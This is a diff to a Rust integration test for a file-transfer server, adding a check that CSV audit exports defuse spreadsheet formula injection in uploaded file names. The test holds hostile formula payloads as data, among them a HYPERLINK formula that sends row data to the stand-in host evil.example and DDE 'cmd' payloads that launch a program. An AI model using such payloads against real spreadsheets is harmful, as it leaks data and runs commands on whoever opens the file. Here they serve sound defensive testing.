@@ -5,6 +5,7 @@ mod common;
 
 use std::process::Command;
 
+use common::web::Browser;
 use common::{ADMIN, ADMIN_PASSWORD, APP, Server, assert_error};
 use ferry_testkit::{Backend, on_both_backends};
 use serde_json::json;
@@ -16,6 +17,7 @@ on_both_backends!(
     audit_verify_detects_a_deleted_record,
     audit_verify_detects_truncation,
     audit_exports_as_jsonl_and_csv,
+    a_csv_export_never_hands_a_spreadsheet_a_formula,
     the_cli_writes_while_clients_upload_and_the_chain_stays_whole,
 );
 
@@ -309,4 +311,77 @@ fn the_cli_writes_while_clients_upload_and_the_chain_stays_whole(backend: Backen
     }
     let (ok, out) = verify(&s);
     assert!(ok && out.contains("intact"), "{out}");
+}
+
+/// Python's csv module's reading of `csv`: the `path` cell of every row that has one.
+fn csv_paths(csv: &str) -> Vec<String> {
+    let out = Command::new("python3")
+        .args(["-c", "import csv,sys,json; print(json.dumps([r['path'] for r in csv.DictReader(sys.stdin) if r['path']]))"])
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::piped())
+        .spawn()
+        .and_then(|mut c| {
+            use std::io::Write;
+            c.stdin.take().unwrap().write_all(csv.as_bytes())?;
+            c.wait_with_output()
+        })
+        .unwrap();
+    serde_json::from_slice(&out.stdout).unwrap()
+}
+
+/// File names, details and client versions come from any member, and the administrator opens
+/// the CSV export in a spreadsheet, which runs a cell beginning with `=`, `+`, `-` or `@` as a
+/// formula (`=HYPERLINK(…)` sends whoever clicks it elsewhere, with the row's data in the
+/// address). Before, both CSV exports wrote such names as they were. Now they begin with `'`,
+/// which a spreadsheet shows as nothing, and the JSON-lines export keeps them exactly.
+fn a_csv_export_never_hands_a_spreadsheet_a_formula(backend: Backend) {
+    let s = Server::start(backend);
+    s.add_user("olga", "member", "olga-password");
+    let (olga, _) = s.open("olga", "olga-password", APP);
+    let (_, home) = s.call("GetHomeFolder", json!({"sessionID": olga}));
+    let home = home["FolderID"].as_i64().unwrap();
+    let hostile = [
+        "=HYPERLINK(\"evil.example?q=\"&A1,\"open\")",
+        "+1+cmd|' -C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)*cmd|' -C calc'!A0",
+        "\u{FF1D}1+1",
+    ];
+    for name in hostile {
+        let (status, body) = s.put_file(&olga, home, name, "", b"x");
+        assert_eq!(status, 200, "{name}: {body}");
+    }
+    let (status, _) = s.put_file(&olga, home, "plain.txt", "", b"x");
+    assert_eq!(status, 200);
+    let mut expected: Vec<String> = hostile.iter().map(|n| format!("'{n}")).collect();
+    expected.push("plain.txt".into());
+
+    let uploads = |csv: &str| {
+        let paths = csv_paths(csv);
+        paths
+            .into_iter()
+            .filter(|p| expected.contains(p) || hostile.contains(&p.as_str()))
+            .collect::<Vec<_>>()
+    };
+    let cli = s.ferry_ok(&["audit", "export", "--format", "csv"], None);
+    assert_eq!(uploads(&cli), expected, "{cli}");
+    let mut root = Browser::new(&s);
+    assert_eq!(root.sign_in(ADMIN, ADMIN_PASSWORD).status, 303);
+    let console = root.get("/admin/audit/export?format=csv&op=FileUploaded");
+    assert_eq!(console.status, 200);
+    // The console lists newest first.
+    let mut newest_first = expected.clone();
+    newest_first.reverse();
+    assert_eq!(uploads(&console.body), newest_first, "{}", console.body);
+
+    // The JSON lines, for machines, keep every name exactly.
+    let names: Vec<String> = s
+        .audit()
+        .into_iter()
+        .filter(|r| r["operation"] == "FileUploaded")
+        .map(|r| r["path"].as_str().unwrap().to_string())
+        .collect();
+    let mut exact: Vec<String> = hostile.iter().map(|n| n.to_string()).collect();
+    exact.push("plain.txt".into());
+    assert_eq!(names, exact);
 }
